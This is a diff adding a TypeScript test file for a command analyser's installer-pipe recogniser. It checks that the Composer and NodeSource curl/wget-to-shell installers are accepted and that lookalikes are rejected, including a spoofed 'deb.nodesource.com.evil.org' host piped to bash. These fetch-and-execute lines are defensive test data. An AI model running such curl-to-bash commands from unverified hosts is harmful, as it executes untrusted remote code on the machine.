@@ -1,0 +1,56 @@
+import { expect } from 'chai';
+import { createContext } from '../../../src/effects/analyse.js';
+import { emptyFileSystem } from '../../../src/project/file-system.js';
+import { imageView } from '../../../src/project/image-view.js';
+import type { Effects } from '../../../src/effects/types.js';
+import type { ShellWord } from '../../../src/shell/types.js';
+import { knownInstallerPipe } from '../../../transforms/composer/index.js';
+
+function words(text: string): readonly ShellWord[] {
+  return text.split(' ').map((value) => ({ text: value, span: { start: 0, end: 0 }, value, glob: false }));
+}
+
+function pipe(...calls: readonly string[]): Effects | null {
+  const context = createContext({
+    cwd: '/app',
+    user: 'root',
+    home: '/root',
+    env: () => undefined,
+    files: imageView(emptyFileSystem, []),
+    table: {},
+  });
+  return knownInstallerPipe(calls.map(words), context);
+}
+
+describe('transforms/composer/installers', () => {
+  it("knows Composer's installer", () => {
+    expect(pipe('curl -sS https://getcomposer.org/installer', 'php')?.writes).to.deep.equal([
+      { path: '/app/composer.phar', tree: false, role: 'tool' },
+    ]);
+    const placed = pipe(
+      'curl -sS https://getcomposer.org/installer',
+      'php -- --install-dir=/usr/bin --filename=composer',
+    );
+    expect(placed?.writes[0]?.path).to.equal('/usr/bin/composer');
+    expect(placed?.programs).to.include.members(['curl', 'php']);
+  });
+
+  it('knows set-ups of package sources', () => {
+    for (const run of ['bash -', 'sudo -E bash -', 'sh']) {
+      const found = pipe('curl -fsSL https://deb.nodesource.com/setup_20.x', run);
+      expect(found?.packages[0]?.op, run).to.equal('add-repository');
+      expect(found?.replayable).to.equal(true);
+    }
+    expect(pipe('wget -qO- https://rpm.nodesource.com/setup_18.x', 'bash')?.packages[0]?.manager).to.equal(
+      'dnf',
+    );
+  });
+
+  it('knows nothing of other addresses, programs and longer pipes', () => {
+    expect(pipe('curl https://example.com/setup_20.x', 'bash')).to.equal(null);
+    expect(pipe('curl https://deb.nodesource.com.evil.org/setup_20.x', 'bash')).to.equal(null);
+    expect(pipe('curl https://deb.nodesource.com/setup_20.x', 'tee x')).to.equal(null);
+    expect(pipe('curl https://deb.nodesource.com/setup_20.x', 'sed s/a/b/', 'bash')).to.equal(null);
+    expect(pipe('cat x', 'bash')).to.equal(null);
+  });
+});
